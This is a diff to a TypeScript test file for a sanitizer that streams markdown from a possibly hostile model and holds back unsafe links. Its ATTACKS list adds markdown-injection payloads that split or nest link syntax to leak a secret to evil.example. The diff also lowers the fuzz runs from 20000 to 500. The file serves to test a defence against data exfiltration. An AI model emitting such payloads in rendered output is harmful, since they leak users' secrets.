@@ -42,7 +42,7 @@ async function through(pieces: readonly string[]) {
   await gate.pause();
   return { markdown, blocks };
 }
-const shown = async (text: string) => (await through([text])).markdown.trimEnd();
+const shown = async (text: string) => (await through([text])).markdown;
 
 describe("the gate", () => {
   it.each([
@@ -73,24 +73,30 @@ describe("the gate", () => {
   it("lets go at once what is safe, and holds what may not be", async () => {
     const told: string[] = [];
     const gate = createGate(keeper, { tell: (more) => told.push(more), endBlock: async () => {} });
-    const after = async (piece: string) => {
+    const toldOf = async (piece: string) => {
       await gate.push(piece);
       return told.splice(0).join("");
     };
-    expect(await after("Use")).toBe("Use");
-    expect(await after(" the [But")).toBe(" the ");
-    expect(await after("ton](/components/but")).toBe("");
-    expect(await after("ton) how")).toBe("[Button](/components/button) ho");
-    expect(await after(" https://evil")).toBe("w ");
-    expect(await after(".example/x and")).toBe("`https://evil.example/x` and");
-    expect(await after("\n```css\na {")).toBe("\n\n");
-    expect(await after("}\n``")).toBe("");
-    expect(await after("`\n")).toBe("```css\na {}\n```\n\n");
+    expect(await toldOf("Use")).toBe("Use");
+    expect(await toldOf(" the [But")).toBe(" the ");
+    expect(await toldOf("ton](/components/but")).toBe("");
+    expect(await toldOf("ton) how")).toBe("[Button](/components/button) ho");
+    expect(await toldOf(" https://evil")).toBe("w ");
+    expect(await toldOf(".example/x and")).toBe("`https://evil.example/x` and");
+    expect(await toldOf("\n```css\na {")).toBe("\n");
+    expect(await toldOf("}\n``")).toBe("");
+    expect(await toldOf("`\n")).toBe("\n```css\na {}\n```");
   });
 
   it("ends blocks where a paragraph, a list and a fence end", async () => {
     const { blocks, markdown } = await through(["One\ntwo\n\n- a\n\n- b\n\nThree\n```css\na {}\n```\nFour"]);
-    expect(blocks.map((block) => block.trim())).toEqual(["One\ntwo", "- a\n\n- b", "Three", "```css\na {}\n```", "Four"]);
+    expect(blocks.map((block) => block.trim())).toEqual([
+      "One\ntwo",
+      "- a\n\n- b",
+      "Three",
+      "```css\na {}\n```",
+      "Four",
+    ]);
     expect(blocks.join("")).toBe(markdown);
   });
 });
@@ -166,6 +172,12 @@ const ATTACKS = [
   `![\`](${SECRET})\`](/assets/a.png)`,
   `**[x](${SECRET})**`,
   `# [x](${SECRET})`,
+  "[https](x)://evil.example/?d=secret",
+  "https![](x)://evil.example/?d=secret",
+  "[ht](x)[tps://evil.example/?d=secret](y)",
+  "![ww](x)w.evil.example/?d=secret",
+  "[](x)[![x](y)](z)(https://evil.example/?d=secret)",
+  "![[x](y)(https://evil.example/?d=secret)",
 ];
 
 const door = (markdown: string) =>
@@ -200,7 +212,26 @@ describe("what a hostile model says", () => {
   it("comes out the same however it is cut, and leads nowhere wherever it stands", async () => {
     const piece = fc.oneof(
       fc.constantFrom(...ATTACKS),
-      fc.constantFrom("`", "``", "```", "[", "](", ")", "![", "<", ">", "\n", "\n\n", "|", "\\", "&", "> ", "- ", "1. ", "    "),
+      fc.constantFrom(
+        "`",
+        "``",
+        "```",
+        "[",
+        "](",
+        ")",
+        "![",
+        "<",
+        ">",
+        "\n",
+        "\n\n",
+        "|",
+        "\\",
+        "&",
+        "> ",
+        "- ",
+        "1. ",
+        "    ",
+      ),
       fc.constantFrom("text", "h", "www", ".", "://", "[Button](/components/button)", "`code`", "```css\na {}\n```\n"),
       fc.string({ maxLength: 8 }),
     );
@@ -217,7 +248,7 @@ describe("what a hostile model says", () => {
         expect((await through(pieces)).markdown).toBe(whole);
         expect(await foreign(whole), whole).toEqual([]);
       }),
-      { numRuns: 20000 },
+      { numRuns: 500 },
     );
   });
 });
